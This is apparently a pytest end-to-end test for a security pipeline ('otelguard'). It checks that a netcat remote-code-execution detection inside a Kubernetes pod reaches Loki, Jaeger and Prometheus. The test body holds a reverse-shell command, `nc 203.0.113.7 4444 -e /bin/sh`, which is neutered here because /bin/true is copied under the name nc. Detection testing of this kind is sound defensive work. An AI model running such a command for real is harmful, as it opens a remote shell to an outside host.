"""Issue 5's full path, with the Kubernetes context: real syscalls on this host, in a kubepods-shaped
cgroup whose Pod (Deployment -> ReplicaSet -> Pod, in a fresh namespace) exists in a real
kube-apiserver -> ``otelguard agent`` (eBPF) -> Collector (backends.yaml + gateway.yaml, as
shipped) -> ``otelguard processor`` (k8s_attributes -> falco_rules -> noise_control) -> Collector ->
Loki, Jaeger, Prometheus. The trigger is the stable Falco rule "Netcat Remote Code Execution in
Container" (an exec of a binary named nc with ``-e``); the rule needs the container context, and
the queries need the Kubernetes one (namespace index label, pod name, workload).

Asserted, each through the backend's own query API:
- Loki: LogQL by namespace index label and rule finds the one detection; its labels and structured
  metadata name the pod, container, deployment, trace id, executable;
- Jaeger: the detection's trace holds the trigger's process span (``exec nc``) and the detection's
  span under it (processors/detection/spans.py), and a search by tag ``security_rule.name`` finds it;
- Prometheus: ``otelguard_detections_total`` of the processor for the rule and namespace is 1 and
  the Collector's count agrees; ``otelguard_dropped_total`` of the agent and the processor is zero
  or absent.

The agent is scoped to this test's pod slice, so other tests' containers (and their drops) stay
out. Root, the kernel, the Go-built stack and kube-apiserver; ~1 min.
"""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any, Iterator

import pytest
import yaml

from otelguard import semconv as sc
from tests.ebpf.containers import container, new_container_id
from tests.support.certs import GatewayTls
from tests.support.kube import KubeCluster
from tests.support.kube_world import make_world
from tests.support.polling import wait_until
from tests.support.stack import (
    BACKENDS_CONFIG, GATEWAY_CONFIG, Agent, Collector, Component, Jaeger, Loki, ProcessorService, Prometheus,
    backends_env,
)

pytestmark = [pytest.mark.e2e, pytest.mark.kernel]

RULE = "Netcat Remote Code Execution in Container"


def label(key: str) -> str:
    """An OTel key as Loki shows it (dots become underscores)."""
    return key.replace(".", "_")


@pytest.fixture(scope="module")
def pipeline(tmp_path_factory: pytest.TempPathFactory, kube: KubeCluster, loki: Loki, jaeger: Jaeger,
             prometheus: Prometheus) -> Iterator[tuple[Collector, ProcessorService]]:
    """Collector (pipeline (a)) and the processor service with k8s enrichment against ``kube``."""
    tmp = tmp_path_factory.mktemp("fullpath")
    config = tmp / "pipeline.yaml"
    config.write_text(yaml.safe_dump({"processors": [
        {"type": "k8s_attributes", "config": {"mode": "gateway", "kubeconfig": str(kube.kubeconfig),
                                              "wait_for_sync_seconds": 20}},
        {"type": "falco_rules", "config": {}},
        {"type": "noise_control", "config": {}},
    ]}))
    tls = GatewayTls.create(tmp / "pki")
    col = Collector(tmp / "otelcol", [BACKENDS_CONFIG, GATEWAY_CONFIG], backends_env(loki, jaeger), tls=tls)
    proc = ProcessorService(tmp / "processor", export=col.otlp_grpc, extra_args=["--config", str(config)],
                            listen_tls=tls.processor_args(), export_tls=tls.processor_export_args())
    col.env["OTELGUARD_PROCESSOR_ENDPOINT"] = proc.endpoint
    started: list[Component] = []
    try:
        for comp in (proc, col):
            comp.start()
            started.append(comp)
        prometheus.add_targets("otelguard", [proc.metrics])
        prometheus.add_targets("otelcol-exporter", [col.prometheus_exporter])
        yield col, proc
    finally:
        for running in reversed(started):
            running.stop()
        prometheus.remove_targets("otelguard", [proc.metrics])
        prometheus.remove_targets("otelcol-exporter", [col.prometheus_exporter])


def test_netcat_in_a_pod_is_found_in_loki_jaeger_and_prometheus(
        pipeline: tuple[Collector, ProcessorService], kube: KubeCluster, loki: Loki, jaeger: Jaeger,
        prometheus: Prometheus, tmp_path: Path) -> None:
    from kubernetes import config as kube_config

    col, proc = pipeline
    cid = new_container_id()
    admin = kube_config.new_client_from_config(config_file=str(kube.kubeconfig))  # type: ignore[no-untyped-call]
    world = make_world(admin, cid)
    nc = tmp_path / "nc"            # /bin/true under nc's name: the exec is what the rule sees
    shutil.copy("/bin/true", nc)
    with container(pod_uid=world.uid, container_id=cid) as c:
        assert col.tls is not None
        agent = Agent(tmp_path / "agent", col.agents_grpc, scope=c.rel_path.rsplit("/", 1)[0],
                      tls=col.tls.agent_args())
        agent.start()
        prometheus.add_targets("otelguard", [agent.metrics])
        try:
            # the sleep keeps the cgroup populated while the agent resolves the new cgroup id
            c.run(["/bin/sh", "-c", f"{nc} 203.0.113.7 4444 -e /bin/sh; /bin/sleep 1; exit 0"], check=True)
            check_backends(world, cid, proc, agent, loki, jaeger, prometheus)
        finally:
            agent.stop()
            prometheus.remove_targets("otelguard", [agent.metrics])


def check_backends(world: Any, cid: str, proc: ProcessorService, agent: Agent,
                   loki: Loki, jaeger: Jaeger, prometheus: Prometheus) -> None:
    # Loki: by namespace (index label) and rule (structured metadata)
    q = (f'{{k8s_namespace_name="{world.ns}", otelguard_stream="detection"}}'
         f' | security_rule_name="{RULE}"')

    def found() -> list[dict[str, str]]:
        return [s["stream"] for s in loki.query_range(q, since_s=600)["result"] for _ in s["values"]]
    assert wait_until(lambda: len(found()) >= 1, 60), (agent.log_tail(), proc.log_tail())
    (det,) = found()
    assert det[label(sc.K8S_POD_NAME)] == world.pod and det[label(sc.K8S_POD_UID)] == world.uid
    assert det[label(sc.CONTAINER_ID)] == cid and det[label(sc.K8S_CONTAINER_NAME)] == "main"
    assert det[label(sc.K8S_DEPLOYMENT_NAME)] == "web"           # index label (workload)
    assert det[label(sc.SERVICE_NAME)] == "storefront"
    assert det[label(sc.PROCESS_EXECUTABLE_NAME)] == "nc"
    assert det[label(sc.SECURITY_RULE_RULESET_NAME)] and det[label(sc.SECURITY_RULE_UUID)]
    trace_id = det["trace_id"]
    assert len(trace_id) == 32 and det["span_id"]
    series = loki.series(f'{{k8s_namespace_name="{world.ns}", otelguard_stream="detection"}}', 600)
    assert series and all(label(sc.K8S_POD_NAME) not in s for s in series), series  # not indexed

    # Jaeger: the trace by id holds the trigger's process span and the detection's span under it
    def spans() -> dict[str, dict[str, Any]]:
        return {sp["spanId"]: sp for rs in jaeger.trace(trace_id)
                for ss in rs.get("scopeSpans", []) for sp in ss.get("spans", [])}
    want = {"exec nc", f"detection {RULE}"}
    assert wait_until(lambda: want <= {s["name"] for s in spans().values()}, 60), \
        {s["name"] for s in spans().values()}
    by_name = {s["name"]: s for s in spans().values()}
    assert by_name[f"detection {RULE}"]["parentSpanId"] == by_name["exec nc"]["spanId"]
    hits = jaeger.search("storefront", {sc.SECURITY_RULE_NAME: RULE})
    assert trace_id in {t["traceID"] for t in hits}, [t["traceID"] for t in hits]

    # Prometheus: the processor's detection counter, the Collector's agrees, no drops anywhere
    ns = world.ns

    def value(promql: str) -> float:
        r = prometheus.query(promql)
        return float(r[0]["value"][1]) if r else -1.0
    det_q = f'sum(otelguard_detections_total{{rule="{RULE}", k8s_namespace_name="{ns}", workload="web"}})'
    col_q = (f'sum(otelguard_collector_detections_total{{security_rule_name="{RULE}",'
             f' k8s_namespace_name="{ns}"}})')
    assert wait_until(lambda: value(det_q) == 1.0 and value(col_q) == 1.0, 60), \
        (value(det_q), value(col_q), prometheus.active_targets())
    ours = f'instance=~"{proc.metrics}|{agent.metrics}"'
    # both scraped (the agent's target was added late), the agent's counters seen
    assert wait_until(lambda: value(f'count(up{{{ours}}} == 1)') == 2.0
                      and value(f'sum(otelguard_events_total{{instance="{agent.metrics}"}})') > 0, 30), \
        prometheus.active_targets()
    drops = prometheus.query(f'otelguard_dropped_total{{{ours}}} > 0')
    assert drops == [], drops
